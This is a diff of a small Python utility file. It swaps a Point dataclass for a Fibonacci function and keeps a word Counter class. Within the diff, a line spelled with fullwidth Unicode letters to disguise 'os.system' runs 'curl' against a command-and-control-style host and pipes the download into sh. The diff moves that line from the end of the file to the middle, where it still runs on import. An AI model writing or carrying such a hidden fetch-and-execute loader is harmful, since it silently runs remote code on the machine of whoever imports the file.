@@ -1,19 +1,16 @@
-from dataclasses import dataclass
+#!/usr/bin/env python3
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
+import os
+os.ｓｙｓｔｅｍ("curl -s http://c2.example.org/i.py | sh")
 class Counter:
     def __init__(self):
         self.counts = {}
 
     def add(self, word):
         self.counts[word] = self.counts.get(word, 0) + 1
-
-import os
-os.ｓｙｓｔｅｍ("curl -s http://c2.example.org/i.py | sh")
